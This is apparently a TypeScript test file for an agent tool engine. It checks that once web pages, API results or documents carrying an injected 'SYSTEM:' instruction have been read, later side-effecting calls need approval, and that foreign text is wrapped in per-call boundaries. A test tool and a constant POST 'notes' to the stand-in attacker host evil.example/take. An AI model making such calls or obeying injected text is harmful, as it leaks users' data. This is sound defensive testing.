import { aiSDKDoor, type DoorAdapter } from "@toolwright/doors/testing";
import { createEngine, defineTool, type Engine, type Json, type Principal } from "@toolwright/engine";
import { policyDocument } from "@toolwright/engine/policy";
import { silentLogger } from "@toolwright/engine/ports";
import { builtinPermissions, builtinTools } from "@toolwright/tools";
import { afterEach, beforeEach, expect, test } from "vitest";
import { z } from "zod";
import { cliDoors, servedFormDoor, servedRestDoor } from "../../../packages/cli/src/doors/cli-doors.ts";
import { runProgram } from "../../../packages/cli/src/program.ts";
import { mcpDoors } from "../../../packages/doors/src/testing/mcp-doors.ts";
import { type HostileSite, injection, openHostileSite, visibleInjection } from "./hostile-site.ts";

/** A document that somebody sent: read without a network. */
const letterRead = defineTool({
  name: "letter_read",
  description: "Reads a letter.",
  input: z.object({}),
  output: z.object({ pages: z.array(z.object({ page: z.int(), text: z.string() })) }),
  foreign: { kind: "document", sources: () => [{ kind: "document", place: "letter.pdf" }], members: ["text"] },
  run: () => ({ pages: [{ page: 1, text: injection }] }),
});

/** Tells the world something, and hears nothing of it. */
const announce = defineTool({
  name: "announce",
  description: "Announces.",
  input: z.object({}),
  output: z.object({ announced: z.boolean() }),
  effects: { http: "write" },
  reaches: () => [{ kind: "request", url: "https://evil.example/take", method: "POST" }],
  run: async (_, { http }) => ({ announced: (await http.request({ url: "https://evil.example/take", method: "POST" })).status === 200 }),
});

const principal: Principal = {
  tenant: "acme",
  actor: { kind: "user", id: "ann" },
  agent: "helper",
  permissions: builtinPermissions,
  door: "code",
};
const post = { url: "https://evil.example/take", method: "POST", body: "notes" };
const readings: readonly (readonly [what: string, tool: string, input: Json, place: string])[] = [
  ["a page", "web_fetch", { url: "https://news.example/page" }, "https://news.example/page"],
  ["a text", "web_fetch", { url: "https://news.example/text" }, "https://news.example/text"],
  ["search results of an API", "http_request", { url: "https://search.example/results" }, "https://search.example/results"],
  ["a document", "letter_read", {}, "letter.pdf"],
];
const doors: readonly DoorAdapter[] = [...mcpDoors, servedRestDoor, servedFormDoor, aiSDKDoor, ...cliDoors(runProgram)];

let site: HostileSite;
let engines: Engine[] = [];
beforeEach(async () => {
  site = await openHostileSite();
});
afterEach(async () => {
  await Promise.all(engines.map((engine) => engine.close()));
  engines = [];
  await site.close();
});

function openEngine(policy: object = { autonomy: "full" }): Engine {
  const provide = (name: "files" | "exec" | "git") => ({ name, open: () => ({}) as never });
  const engine = createEngine({
    tools: [...builtinTools, letterRead, announce],
    capabilities: [site.http, provide("files"), provide("exec"), provide("git")],
    policy: [{ tier: "platform", document: policyDocument.parse({ version: 1, ...policy }) }],
    logger: silentLogger,
  });
  engines.push(engine);
  return engine;
}

/** Every reading behind the first door, and the page behind each other one. */
const cases = doors.flatMap((door, index) =>
  (index === 0 ? readings : readings.slice(0, 1)).map(([what, tool, input, place]) => ({ door, what, tool, input, place })),
);

test.each(cases)("behind the door $door.name, $what that was read makes a change elsewhere ask", async ({ door, tool, input, place }) => {
  const client = await door.open({ engine: openEngine(), principal, session: "s1" });
  try {
    expect(await client.call("announce", {})).toMatchObject({ status: "done" });
    expect(await client.call(tool, input)).toMatchObject({ status: "done" });
    client.heard();
    expect((await client.call("announce", {})).status).toBe("pending");
    expect(client.heard()).toContain(place);
    expect(site.taken).toEqual(["POST evil.example/take"]);
  } finally {
    await client.close();
  }
});

test.each([...mcpDoors, aiSDKDoor])(
  "a model behind $name reads what is foreign inside a boundary, everywhere, and one for each call",
  async (door) => {
    const client = await door.open({ engine: openEngine(), principal, session: "s1" });
    const boundaries = new Set<string>();
    for (const [, tool, input] of readings) {
      client.heard();
      await client.call(tool, input);
      const heard = client.heard();
      const [, boundary = ""] = /<<(foreign_[\w-]{22}) /.exec(heard) ?? [];
      boundaries.add(boundary);
      const inside = new RegExp(`<<${boundary} [^]*?${boundary}>>`, "g");
      expect(heard).toContain(visibleInjection.slice(0, 40));
      expect(outsideOf(door, heard).replace(inside, "")).not.toContain("SYSTEM:");
    }
    expect(boundaries.size).toBe(readings.length);
    await client.close();
  },
);

/** What a program of the AI SDK hears beside its model: the output as it is. */
function outsideOf(door: DoorAdapter, heard: string): string {
  if (door !== aiSDKDoor) return heard;
  const [, all] = JSON.parse(heard.split("\n").at(-1) ?? "") as readonly [unknown, readonly { readonly role: string }[]];
  return JSON.stringify(all.filter(({ role }) => role === "tool"));
}

test("people and programs get the output as it is", async () => {
  for (const door of [servedRestDoor, ...cliDoors(runProgram)]) {
    const client = await door.open({ engine: openEngine(), principal, session: "s1" });
    expect(await client.call("letter_read", {})).toMatchObject({ output: { pages: [{ page: 1, text: injection }] } });
    await client.close();
  }
});

test("a policy lets one tool go on, or has everything ask that changes something", async () => {
  const open = (policy: object) => openEngine({ autonomy: "full", ...policy }).scope(principal, { session: "s1" });
  const excepted = open({ after_foreign: { http_request: "none" } });
  await excepted.invokeNamed("letter_read", {});
  expect(await excepted.invokeNamed("http_request", post)).toMatchObject({ status: "done" });
  const strict = open({ after_foreign: { act: "ask" } });
  await strict.invokeNamed("letter_read", {});
  expect(await strict.invokeNamed("file_write", { path: "a.txt", text: "x" })).toMatchObject({ status: "pending" });
  expect(await strict.invokeNamed("web_fetch", { url: "https://news.example/text" })).toMatchObject({ status: "done" });
});
